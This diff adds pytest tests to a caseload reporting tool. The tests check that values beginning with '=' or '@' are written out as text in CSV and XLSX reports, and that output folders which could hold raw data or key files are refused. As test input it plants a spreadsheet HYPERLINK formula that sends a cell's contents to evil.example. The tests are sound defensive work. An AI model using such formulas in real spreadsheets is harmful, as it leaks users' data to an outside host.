@@ -272,3 +272,118 @@ def test_refresh_scores_with_the_committed_model(tmp_path):
     assert "het model" in html
     m = json.loads((res.out_dir / "manifest.json").read_text())
     assert any(Path(i["path"]).name == model.name for i in m["inputs"])
+
+
+# ------------------------------------------------------------------ issue 11: no live formulas
+
+_EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
+
+
+def _sample_copy(tmp_path: Path) -> Path:
+    """The sample extract and config copied to tmp_path (out_dir inside tmp_path)."""
+    import shutil
+
+    src = SAMPLE.parent
+    dst = tmp_path / "sample"
+    dst.mkdir()
+    for p in src.iterdir():
+        if p.is_file():
+            shutil.copy2(p, dst / p.name)
+    toml = (dst / "caseload.toml").read_text(encoding="utf-8")
+    (dst / "caseload.toml").write_text(toml.replace('out_dir = "../../reports"', 'out_dir = "../reports"'),
+                                       encoding="utf-8")
+    return dst / "caseload.toml"
+
+
+def _live_cells(folder: Path) -> list[str]:
+    """Every CSV cell and XLSX cell in ``folder`` that a spreadsheet would run as a formula."""
+    from openpyxl import load_workbook
+
+    from caseload.publish.safe import needs_quote
+
+    found = []
+    for p in sorted(folder.rglob("*.csv")):
+        sep = ";" if p.read_text(encoding="utf-8-sig").split("\n", 1)[0].count(";") else ","
+        with open(p, newline="", encoding="utf-8-sig") as fh:
+            for r, row in enumerate(csv.reader(fh, delimiter=sep), start=1):
+                found += [f"{p.name}:{r}:{c!r}" for c in row if needs_quote(c)]
+    for p in sorted(folder.rglob("*.xlsx")):
+        wb = load_workbook(p)
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                found += [f"{p.name}!{ws.title}!{c.coordinate}" for c in row
+                          if c.data_type == "f" or (needs_quote(c.value) and not c.quotePrefix)]
+    return found
+
+
+@pytest.mark.slow
+def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path):
+    """Issue 11: a dropout reason and a report title starting with '=' never become formulas."""
+    config = _sample_copy(tmp_path)
+    acts = config.parent / "activiteiten.csv"
+    df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
+    hit = df["dropout_reason"] == "Gebrek aan motivatie"
+    assert hit.sum() >= 20
+    df.loc[hit, "dropout_reason"] = _EVIL
+    df.to_csv(acts, sep=";", index=False, encoding="cp1252")
+    cfg = cl.load_config(config, report={"title": _EVIL})
+    out = rf.refresh(cfg, out_dir=tmp_path / "reports", steps=["validate", "kpi"]).out_dir
+    texts = b"".join(p.read_bytes() for p in (out / "tables").glob("*.csv"))
+    assert b"'=HYPERLINK" in texts  # the reason is published, as text
+    assert _live_cells(out) == []
+    # The rejected rows of `caseload validate --out`: a bad sex code that starts a formula.
+    uitk = config.parent / "uitkeringen.csv"
+    lines = uitk.read_text(encoding="utf-8").splitlines()
+    cells = lines[1].split(";")
+    cells[3] = "@SUM(1+1)"
+    lines[1] = ";".join(cells)
+    uitk.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    rejected = tmp_path / "afgewezen" / "rejected.csv"
+    result = CliRunner().invoke(app, ["validate", str(uitk), "--config", str(config), "--out",
+                                      str(rejected)])
+    assert result.exit_code == 1, result.output
+    assert "'@SUM(1+1)" in rejected.read_text(encoding="utf-8-sig")
+    assert _live_cells(rejected.parent) == []
+
+
+# ------------------------------------------------------------------ issue 11: the report folder
+
+
+def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, monkeypatch):
+    """`out_dir = "../../.."` made a parent folder the report, with the raw extract inside."""
+    config = _sample_copy(tmp_path)
+    deep = tmp_path / "a" / "b" / "c"
+    deep.mkdir(parents=True)
+    toml = config.read_text(encoding="utf-8").replace('out_dir = "../reports"', 'out_dir = "../../.."')
+    files = ", ".join(f'"{(config.parent / n).as_posix()}"' for n in
+                      ("uitkeringen.csv", "clienten.csv", "diagnoses.csv", "activiteiten.csv"))
+    toml = re.sub(r"files = \[[^\]]*\]", f"files = [{files}]", toml)
+    toml = toml.replace('overrides_file = "overrides.csv"', "")
+    (deep / "caseload.toml").write_text(toml, encoding="utf-8")
+    ran = []
+    monkeypatch.setattr(rf, "_run", lambda *a, **k: ran.append(1))
+    before = _snapshot(tmp_path)
+    with pytest.raises(rf.RefreshError, match="may not hold") as exc:
+        rf.refresh(deep / "caseload.toml")
+    assert "caseload.toml" in str(exc.value) and "Fix:" in str(exc.value)
+    assert ran == [] and _snapshot(tmp_path) == before
+    # A folder of other files is refused too, with the files named.
+    mine = tmp_path / "mijn_documenten"
+    mine.mkdir()
+    (mine / "begroting.xlsx").write_bytes(b"x")
+    with pytest.raises(rf.RefreshError, match="not written by caseload") as exc:
+        rf.refresh(config, out_dir=mine)
+    assert "begroting.xlsx" in str(exc.value) and ran == []
+    assert [p.name for p in mine.iterdir()] == ["begroting.xlsx"]
+
+
+def test_out_dir_holding_the_key_file_is_refused(tmp_path, monkeypatch):
+    config = _sample_copy(tmp_path)
+    keys = tmp_path / "sleutels"
+    keys.mkdir()
+    cfg = cl.load_config(config, privacy={"key_file": str(keys / "pseudonym.key")})
+    monkeypatch.setattr(rf, "_run", lambda *a, **k: None)
+    with pytest.raises(rf.RefreshError, match="may not hold") as exc:
+        rf.refresh(cfg, out_dir=keys)
+    assert "pseudonym.key" in str(exc.value)
+    assert list(keys.iterdir()) == []
